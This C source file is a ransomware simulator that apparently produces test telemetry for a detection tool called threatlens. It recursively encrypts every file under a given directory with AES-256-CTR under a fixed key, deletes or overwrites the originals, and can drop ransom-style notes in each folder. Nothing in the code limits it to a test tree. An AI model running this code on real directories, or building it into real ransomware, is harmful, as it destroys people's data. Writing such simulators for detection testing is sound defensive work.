/*
 * A ransomware-like tool in C for threatlens's collector recordings: AES-256-CTR through libcrypto
 * (EVP_EncryptInit_ex, one call per file), walking a generated tree with nftw. Run it only on such a tree.
 *
 *   cransom DIR newfile|inplace [notes] [delay_ms]
 *
 * newfile: read FILE, write FILE.locked, unlink FILE. inplace: overwrite FILE, rename it to FILE.locked.
 * Prints {"encrypted", "deleted", "renamed", "notes", "bytes"} to $WORKLOAD_REPORT (or stdout).
 */
#define _XOPEN_SOURCE 700
#include <ftw.h>
#include <openssl/evp.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

static int inplace, notes, delay_ms;
static long encrypted, deleted, renamed, note_count, total_bytes;
static char **paths;
static long npaths, cap;

static int collect(const char *path, const struct stat *st, int type, struct FTW *ftw) {
  (void)st;
  (void)ftw;
  size_t n = strlen(path);
  if (type != FTW_F || (n > 7 && strcmp(path + n - 7, ".locked") == 0) || strstr(path, "README_RESTORE")) return 0;
  if (npaths == cap) paths = realloc(paths, (cap = cap ? cap * 2 : 256) * sizeof *paths);
  paths[npaths++] = strdup(path);
  return 0;
}

static int write_note(const char *path, const struct stat *st, int type, struct FTW *ftw) {
  (void)st;
  (void)ftw;
  if (type != FTW_D) return 0;
  char note[4096];
  snprintf(note, sizeof note, "%s/README_RESTORE.txt", path);
  FILE *f = fopen(note, "w");
  if (f) {
    fputs("YOUR FILES ARE ENCRYPTED.\nThis is a threatlens test workload.\n", f);
    fclose(f);
    note_count++;
  }
  return 0;
}

static void encrypt_one(const char *path) {
  FILE *in = fopen(path, "rb");
  if (!in) return;
  fseek(in, 0, SEEK_END);
  long size = ftell(in);
  fseek(in, 0, SEEK_SET);
  unsigned char *data = malloc(size > 0 ? size : 1), *out = malloc(size + 32);
  size_t got = fread(data, 1, size, in);
  fclose(in);
  unsigned char key[32] = {7}, iv[16] = {9};
  EVP_CIPHER_CTX *ctx = EVP_CIPHER_CTX_new();
  int len = 0, fin = 0;
  EVP_EncryptInit_ex(ctx, EVP_aes_256_ctr(), NULL, key, iv);
  EVP_EncryptUpdate(ctx, out, &len, data, (int)got);
  EVP_EncryptFinal_ex(ctx, out + len, &fin);
  EVP_CIPHER_CTX_free(ctx);
  char target[4096];
  snprintf(target, sizeof target, "%s.locked", path);
  FILE *dst = fopen(inplace ? path : target, inplace ? "r+b" : "wb");
  if (dst) {
    fwrite(out, 1, len + fin, dst);
    fclose(dst);
    if (inplace) {
      if (rename(path, target) == 0) renamed++;
    } else if (remove(path) == 0) {
      deleted++;
    }
    encrypted++;
    total_bytes += (long)got;
  }
  free(data);
  free(out);
  if (delay_ms > 0) {
    struct timespec ts = {delay_ms / 1000, (delay_ms % 1000) * 1000000L};
    nanosleep(&ts, NULL);
  }
}

int main(int argc, char **argv) {
  if (argc < 3) {
    fprintf(stderr, "usage: cransom DIR newfile|inplace [notes] [delay_ms]\n");
    return 2;
  }
  inplace = strcmp(argv[2], "inplace") == 0;
  notes = argc > 3 && strcmp(argv[3], "notes") == 0;
  delay_ms = argc > 4 ? atoi(argv[4]) : 0;
  nftw(argv[1], collect, 32, FTW_PHYS);
  for (long i = 0; i < npaths; i++) encrypt_one(paths[i]);
  if (notes) nftw(argv[1], write_note, 32, FTW_PHYS);
  const char *report = getenv("WORKLOAD_REPORT");
  FILE *r = report ? fopen(report, "w") : stdout;
  fprintf(r, "{\"encrypted\": %ld, \"deleted\": %ld, \"renamed\": %ld, \"notes\": %ld, \"bytes\": %ld}\n", encrypted,
          deleted, renamed, note_count, total_bytes);
  if (report) fclose(r);
  return 0;
}
